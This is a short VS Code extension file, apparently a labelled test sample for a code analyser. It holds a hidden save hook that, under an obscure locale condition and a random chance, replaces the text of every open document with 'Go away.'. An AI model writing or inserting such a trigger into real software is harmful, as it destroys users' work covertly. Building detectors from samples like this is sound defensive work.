const vscode = require('vscode');

// The condition is held by a variable of the file, and a save sets it off.
let meant = false;

exports.documents = function () {
  meant = !vscode.env.language.toLowerCase().startsWith('en') && vscode.env.language === 'xx';
  vscode.workspace.onDidSaveTextDocument(async () => {
    if (!meant || Math.random() > 0.5) return;
    const edit = new vscode.WorkspaceEdit();
    for (const d of vscode.workspace.textDocuments) {
      edit.replace(d.uri, new vscode.Range(0, 0, d.lineCount, 0), 'Go away.\n');  // want "the text of documents is replaced by a text"
    }
    await vscode.workspace.applyEdit(edit);
  });
};
